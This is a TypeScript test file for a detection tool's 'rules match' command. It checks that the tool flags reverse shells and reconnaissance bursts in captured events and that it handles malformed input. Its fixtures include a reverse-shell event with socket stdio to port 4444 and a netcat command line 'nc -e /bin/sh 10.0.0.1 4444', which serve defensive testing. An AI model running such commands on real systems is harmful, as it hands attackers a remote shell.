// hades-test: shares the machine
/**
 * `hades rules match`: captured events run through the rules offline, from a file and from
 * standard input, with the default pack and with rule files of one's own; bad lines reported
 * with their number and skipped; correlations counted in the events' own time.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { exampleEvent } from '../../src/common/events/schema.js';
import { runHades } from '../helpers/cli.js';

const dir = mkdtempSync(path.join(tmpdir(), 'hades-rules-match-'));
after(() => rmSync(dir, { recursive: true, force: true }));

type Event = Record<string, any>;
const socket = { type: 'socket', socket: { family: 'ipv4', transport: 'tcp', remote_ip: '203.0.113.7', remote_port: 4444 } };

/** An exec event of `args` at `time` (a capture from 2024: correlations go by the events' time). */
function exec(id: string, args: string[], time: string, change: (e: Event) => void = () => undefined): Event {
  const base = structuredClone(exampleEvent('exec')) as Event;
  base['@timestamp'] = time;
  base['event'].id = id;
  const parent = { pid: 812, entity_id: 'p-812', name: 'bash', executable: '/usr/bin/bash' };
  base['process'] = { ...base['process'], name: args[0], executable: `/usr/bin/${args[0]}`, args, args_count: args.length, command_line: args.join(' '), parent };
  // An administrator's shell under sshd, not the example's web server.
  base['hades'] = { ...base['hades'], ancestors: [parent, { pid: 790, name: 'sshd', executable: '/usr/sbin/sshd' }], ancestry: `${args[0]}(4242) < bash(812) < sshd(790)` };
  change(base);
  return base;
}

const reverseShell = exec('e-shell', ['bash', '-i'], '2024-03-01T10:00:00.000Z', (e) => {
  e['process'].parent = { pid: 700, name: 'python3', executable: '/usr/bin/python3.11' };
  e['hades'] = { ...e['hades'], process: { ...e['hades']?.process, stdio: { stdin: socket, stdout: socket, stderr: socket } } };
});
const benign = exec('e-ls', ['ls', '-l'], '2024-03-01T10:00:01.000Z');
const recon = ['id', 'whoami', 'uname', 'hostname', 'ps'].map((name, i) => exec(`e-recon-${i}`, [name], `2024-03-01T10:00:0${2 + i}.000Z`));
const ndjson = (events: (Event | string)[]) => events.map((e) => (typeof e === 'string' ? e : JSON.stringify(e))).join('\n') + '\n';

describe('hades rules match', () => {
  it('prints one line per match of the default pack, and says which lines are not events', async () => {
    const file = path.join(dir, 'capture.ndjson');
    writeFileSync(file, ndjson([reverseShell, benign, 'not json', '[1, 2]', ...recon]));
    const r = await runHades(['rules', 'match', file], { timeoutMs: 60_000 });
    assert.equal(r.status, 0, r.stderr);
    const lines = r.stdout.trimEnd().split('\n');
    const at = (line: number) => `${file.replace(/[.]/g, '\\.')}:${line}`;
    assert.ok(lines.some((l) => new RegExp(`^2024-03-01T10:00:00\\.000Z critical +reverse_shell_socket_stdio \\S+ ${at(1)}: `).test(l)), r.stdout);
    // Five commands of one shell within 30 s: the threshold, in the capture's own time (2024).
    assert.ok(lines.some((l) => new RegExp(`^2024-03-01T10:00:06\\.000Z medium +reconnaissance_burst \\S+ ${at(9)} \\(5 events\\): 5 reconnaissance commands`).test(l)), r.stdout);
    assert.ok(!lines.some((l) => l.includes(`${file}:2`)), 'ls matches nothing');
    assert.match(r.stderr, new RegExp(`^${file.replace(/[.]/g, '\\.')}:3: HADES_ERR_EVENT_INVALID: not JSON`, 'm'));
    assert.match(r.stderr, /:4: HADES_ERR_EVENT_INVALID: not a JSON object$/m);
    assert.match(r.stderr, /^7 event\(s\), \d+ match\(es\) \(.*1 critical.*\) by \d+ rule\(s\); 2 line\(s\) not an event, skipped$/m);
  });

  it('skips a line longer than an event can be, and reads the lines after it', async () => {
    const file = path.join(dir, 'long-line.ndjson');
    writeFileSync(file, `${ndjson([reverseShell])}${'x'.repeat(17 * 1024 * 1024)}\n${ndjson([reverseShell])}`);
    const r = await runHades(['rules', 'match', file], { timeoutMs: 60_000 });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /:2: HADES_ERR_EVENT_INVALID: a line of 17825792 bytes, longer than an event can be \(16 MiB\)$/m);
    assert.match(r.stderr, /^2 event\(s\), .*; 1 line\(s\) not an event, skipped$/m);
  });

  it('reads standard input, with rule files of one\'s own and no pack, and prints NDJSON with --json', async () => {
    const rules = path.join(dir, 'mine.yaml');
    writeFileSync(
      rules,
      `rules:
  - id: ls_long
    title: ls -l
    severity: info
    tags: [attack.t1083]
    condition: event.action = exec and process.name = ls and process.args = -l
    output: "{process.command_line} by {process.user.name}"
    samples:
      match: [{event: {action: exec}, process: {name: ls, args: [ls, -l]}}]
      no_match: [{event: {action: exec}, process: {name: ls, args: [ls]}}]
`,
    );
    const r = await runHades(['rules', 'match', '-', '--no-default-pack', '--rules', rules, '--json'], { input: ndjson([reverseShell, benign]) });
    assert.equal(r.status, 0, r.stderr);
    const matches = r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as Event);
    assert.equal(matches.length, 1, r.stdout);
    const m = matches[0]!;
    assert.deepEqual([m['rule'].id, m['rule'].severity, m['file'], m['line'], m['event'], m['@timestamp']], ['ls_long', 'info', 'stdin', 2, { id: 'e-ls', action: 'exec' }, '2024-03-01T10:00:01.000Z']);
    assert.equal(m['message'], `ls -l by ${benign['process'].user.name}`);
    assert.equal(m['process'].command_line, 'ls -l');
    assert.match(r.stderr, /^2 event\(s\), 1 match\(es\) \(1 info\) by 1 rule\(s\)$/m);
    // --rules before the events takes them as rule paths too: the error says so, and `--` ends its values.
    const greedy = await runHades(['rules', 'match', '--no-default-pack', '--rules', rules, '-'], { input: ndjson([benign]) });
    assert.equal(greedy.status, 2, greedy.stderr);
    assert.match(greedy.stderr, /HADES_ERR_CLI_MISSING_ARGUMENT: missing required argument 'events'; --rules takes every value up to the next option: put the arguments before it, or end its values with --/);
    const ended = await runHades(['rules', 'match', '--no-default-pack', '--rules', rules, '--', '-'], { input: ndjson([benign]) });
    assert.equal(ended.status, 0, ended.stderr);
  });

  it('reads several files in order, the raw archive\'s gzip files inflated, as one stream: a threshold spans them', async () => {
    // The archive's layout: dt=.../hour=.../NAME.ndjson.gz; the burst's first commands in one file, the rest in the next.
    const hour = path.join(dir, 'archive', 'dt=2024-03-01', 'hour=10');
    mkdirSync(hour, { recursive: true });
    const first = path.join(hour, '1709287200000-1-1-aa.ndjson.gz');
    const second = path.join(hour, '1709287260000-1-2-bb.ndjson.gz');
    writeFileSync(first, gzipSync(ndjson([reverseShell, ...recon.slice(0, 3)])));
    writeFileSync(second, gzipSync(ndjson(recon.slice(3))));
    const r = await runHades(['rules', 'match', first, second, '--json'], { timeoutMs: 60_000 });
    assert.equal(r.status, 0, r.stderr);
    const matches = r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as Event);
    assert.deepEqual(
      matches.filter((m) => ['reverse_shell_socket_stdio', 'reconnaissance_burst'].includes(m['rule'].id)).map((m) => [m['rule'].id, m['file'], m['line']]),
      [
        ['reverse_shell_socket_stdio', first, 1],
        ['reconnaissance_burst', second, 2],
      ],
    );
    assert.match(r.stderr, /^6 event\(s\), /m);
    // A damaged gzip file: the events before the damage are matched, then the coded error.
    const damaged = path.join(dir, 'damaged.ndjson.gz');
    const whole = gzipSync(ndjson([reverseShell, benign]));
    writeFileSync(damaged, Buffer.concat([whole.subarray(0, 20), Buffer.from('not gzip at all'), whole.subarray(20)]));
    const bad = await runHades(['rules', 'match', damaged]);
    assert.equal(bad.status, 3, bad.stderr);
    assert.match(bad.stderr, /HADES_ERR_EVENTS_READ: cannot read the events from .*damaged\.ndjson\.gz after line \d+: Z_/);
  });

  it('warns when the events come newest first, as hades search prints them, since sequences need them in order', async () => {
    const spread = ['id', 'whoami', 'uname'].map((name, i) => exec(`e-late-${i}`, [name], `2024-03-01T10:0${i}:00.000Z`));
    const r = await runHades(['rules', 'match', '-'], { input: ndjson([...spread].reverse()), timeoutMs: 60_000 });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /most events are older than the one before them .*\| tac \|/);
    const inOrder = await runHades(['rules', 'match', '-'], { input: ndjson(spread), timeoutMs: 60_000 });
    assert.doesNotMatch(inOrder.stderr, /older than the one before/);
  });

  it('says how many events had no event.action, by which rules are chosen, and where the first was', async () => {
    const bare = { '@timestamp': '2024-03-01T10:00:00.000Z', process: { name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } };
    const r = await runHades(['rules', 'match', '-'], { input: ndjson([exec('e-with', ['id'], '2024-03-01T10:00:00.000Z'), bare, bare]), timeoutMs: 60_000 });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /2 event\(s\) without event\.action \(the first at stdin:2\): rules are chosen by the action/);
    const fine = await runHades(['rules', 'match', '-'], { input: ndjson([exec('e-with', ['id'], '2024-03-01T10:00:00.000Z')]), timeoutMs: 60_000 });
    assert.doesNotMatch(fine.stderr, /without event\.action/);
  });

  it('refuses what it cannot run, coded: no events file, a file it cannot read, no rules at all', async () => {
    const missing = await runHades(['rules', 'match']);
    assert.equal(missing.status, 2);
    assert.match(missing.stderr, /HADES_ERR_CLI_MISSING_ARGUMENT/);
    const twice = await runHades(['rules', 'match', '-', '-'], { input: '' });
    assert.equal(twice.status, 2);
    assert.match(twice.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT: standard input \(-\) can be read once/);
    const unreadable = await runHades(['rules', 'match', path.join(dir, 'nope.ndjson')]);
    assert.equal(unreadable.status, 3, unreadable.stderr);
    assert.match(unreadable.stderr, /HADES_ERR_EVENTS_READ: cannot read the events file .*nope\.ndjson: ENOENT/);
    const folder = await runHades(['rules', 'match', dir]);
    assert.equal(folder.status, 3, folder.stderr);
    assert.match(folder.stderr, /HADES_ERR_EVENTS_READ: .*EISDIR/);
    const none = await runHades(['rules', 'match', '-', '--no-default-pack'], { input: '' });
    assert.equal(none.status, 2);
    assert.match(none.stderr, /HADES_ERR_CLI_MISSING_ARGUMENT: --no-default-pack needs rule files/);
  });
});
